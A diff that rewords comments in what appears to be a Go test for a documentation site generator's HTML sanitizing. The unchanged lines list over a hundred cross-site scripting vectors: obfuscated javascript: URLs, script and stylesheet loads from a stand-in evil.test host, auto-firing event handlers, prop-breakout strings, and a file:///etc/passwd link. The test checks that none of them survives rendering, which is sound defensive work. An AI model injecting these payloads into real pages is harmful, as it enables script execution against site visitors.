@@ -19,10 +19,11 @@ import (
 	"golang.org/x/net/html"
 )
 
-// code is what every vector tries to run.
+// code is the code that every vector tries to run.
 const code = `alert(1)`
 
-// addresses run code, contain their own document or lead to another host, in the spellings that browsers accept.
+// addresses are addresses that run code, contain a document or lead to another host, in the spellings that browsers
+// accept.
 var addresses = []string{
 	"javascript:" + code, "JaVaScRiPt:" + code, " javascript:" + code, "\tjavascript:" + code, "java\tscript:" + code,
 	"java&#10;script:" + code, "java&Tab;script:" + code, "&#106;avascript:" + code, "&#x6a;avascript:" + code, "&#0000106avascript:" + code,
@@ -32,19 +33,19 @@ var addresses = []string{
 	"DATA:text/html,x", "data:,x", "filesystem:https://x/temporary/y", "blob:https://x/y", "view-source:x", "jar:x!/y", "about:blank", "file:///etc/passwd",
 }
 
-// urlAttributes are attributes with URLs, and elements that read them.
+// urlAttributes maps attributes that contain URLs to elements that load these URLs.
 var urlAttributes = map[string]string{
 	"href": "a link base area svg use image", "src": "img iframe script embed video audio source track input frame", "srcset": "img source",
 	"data": "object", "poster": "video", "action": "form", "formaction": "button input", "background": "body table td",
 	"xlink:href": "a use image svg", "ping": "a", "cite": "blockquote q", "srcdoc": "iframe", "manifest": "html", "content": "meta", "codebase": "applet object",
 }
 
-// handlers are event handlers on elements that call them without interaction.
+// handlers are event handlers, each with an element that calls it without interaction.
 var handlers = strings.Fields(`img:onerror svg:onload body:onload iframe:onload video:onerror audio:onerror details:ontoggle
 	input:onfocus select:onfocus textarea:onfocus marquee:onstart p:onclick a:onmouseover button:onpointerdown div:onanimationstart
 	span:onbeforetoggle form:onsubmit style:onload link:onload object:onerror embed:onload math:onclick path:onbegin animate:onbegin`)
 
-// elements run or style something, or change the page, without interaction.
+// elements are elements that run scripts, apply styles or change the page without interaction.
 var elements = []string{
 	"<script>" + code + "</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/src=//evil.test/x.js></script>", "<scr<script>ipt>" + code + "</script>",
 	"<style>*{background:url(//evil.test)}</style>", "<style>@import '//evil.test/x.css';</style>", "<link rel=stylesheet href=//evil.test/x.css>",
@@ -68,7 +69,7 @@ var elements = []string{
 	"<td align='left;position:fixed'>x</td>", "<table><tr><td align='left;position:fixed;inset:0'>x</td></tr></table>",
 }
 
-// calls of components pass values to React.
+// calls are component calls that pass values to React.
 var calls = []string{
 	"::card{title=\"x\" to=\"%s\"}\nx\n::", "::card{title=\"x\" :to='[\"%s\"]'}\nx\n::", "::callout{to=\"%s\"}\nx\n::", ":button[x]{to=\"%s\"}",
 	"::page-hero{title=\"x\" :links='[{\"label\":\"x\",\"to\":\"%s\"}]'}\n::", "::read-more{to=\"%s\" title=\"x\"}\n::",
@@ -76,10 +77,10 @@ var calls = []string{
 	"::a{:href='[\"%s\"]'}\nx\n::", "::video-accordion{video-id=\"%s\" title=\"x\"}\n::",
 }
 
-// breakouts are values of props that would be HTML.
+// breakouts are values of props that try to become HTML.
 var breakouts = []string{"\"><img src=x onerror=alert(1)>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "<svg onload=alert(1)>", "\u2028alert(1)", "</div></div><img src=x onerror=alert(1)>"}
 
-// vectors are pieces of documents with one attack each.
+// vectors returns parts of documents that contain one attack each.
 func vectors() []string {
 	all := slices.Clone(elements)
 	for attr, tags := range urlAttributes {
@@ -113,8 +114,8 @@ func vectors() []string {
 	return all
 }
 
-// TestVectors builds a site whose documents try to run scripts and to escape their place, and parses its pages like a
-// browser: no attack remains.
+// TestVectors builds a site whose documents try to run scripts and to break out of their elements. It parses the pages
+// as a browser does. No attack may succeed.
 func TestVectors(t *testing.T) {
 	dir := t.TempDir()
 	write := func(name, text string) {
@@ -129,7 +130,7 @@ func TestVectors(t *testing.T) {
 	write("tresdocs.yaml", "site:\n  name: A\n  title: A\nchecks:\n  all: warning\n")
 	write("content/index.md", "Text.")
 	write("content/plain.md", "Text.")
-	write("content/lively.md", "<video src=\"/a.mp4\"></video>") // loads the program at once
+	write("content/lively.md", "<video src=\"/a.mp4\"></video>") // loads the program immediately
 	all := vectors()
 	if len(all) < 150 {
 		t.Fatalf("there are %d vectors", len(all))
@@ -149,7 +150,7 @@ func TestVectors(t *testing.T) {
 	}
 	dist := os.DirFS(filepath.Join(dir, "dist"))
 	own := slices.Concat(scripts(t, dist, "plain/index.html"), scripts(t, dist, "lively/index.html"), sheets(t))
-	own = append(own, "link rel=stylesheet") // styles of authors, which are checked below
+	own = append(own, "link rel=stylesheet") // authors' styles, which are checked below
 	pages, err := fs.Glob(dist, "*/index.html")
 	if err != nil || len(pages) < len(all)/40 {
 		t.Fatalf("%d pages: %v", len(pages), err)
@@ -168,11 +169,11 @@ func TestVectors(t *testing.T) {
 	}
 }
 
-// badRule matches rules that no style sheet of a page may contain: a rule for more than the elements with a style, or a
-// property of [badStyle] after the selector.
+// badRule matches rules that must not be in any style sheet of a page: a rule that applies to elements other than the
+// ones with a style, or a rule with a property of [badStyle].
 var badRule = regexp.MustCompile(`(?im)^[^\[].*\{|\{[^}]*(position:[^;}]*fixed|[^:]//|expression|binding|behavior|image-set)`)
 
-// sheets lists the style sheets of the front end like [scripts] does: a page contains the sheets of the parts that it
+// sheets lists the style sheets of the front end, like [scripts]. A page contains the sheets of the parts that it
 // shows.
 func sheets(t *testing.T) []string {
 	t.Helper()
@@ -202,7 +203,7 @@ func parsePage(t *testing.T, dist fs.FS, page string) *html.Node {
 	return root
 }
 
-// scripts lists the scripts and styles of a page, except for its data.
+// scripts lists the scripts and styles of a page, without the page's data.
 func scripts(t *testing.T, dist fs.FS, page string) []string {
 	t.Helper()
 	var all []string
@@ -234,7 +235,7 @@ var (
 	badName   = regexp.MustCompile(`^(on.*|srcdoc|ping|autofocus|accesskey|contenteditable|form|http-equiv|nonce|is)$`)
 )
 
-// checkPage reports elements that could run a script or act on the page, except for the elements in the head of every
+// checkPage reports elements that could run a script or act on the page. It ignores the elements in the head of every
 // page.
 func checkPage(t *testing.T, page string, root *html.Node) {
 	t.Helper()
@@ -278,7 +279,8 @@ func checkPage(t *testing.T, page string, root *html.Node) {
 	}
 }
 
-// isOwnFrame reports whether a frame shows a page of the site or nothing, and cannot navigate the reader away.
+// isOwnFrame reports whether a frame shows a page of the site or nothing, and cannot navigate the reader away from the
+// page.
 func isOwnFrame(n *html.Node) bool {
 	src, err := url.Parse(attributeOf(n, "src"))
 	return err == nil && src.Host == "" && src.Scheme == "" && !strings.Contains(attributeOf(n, "sandbox"), "top-navigation")
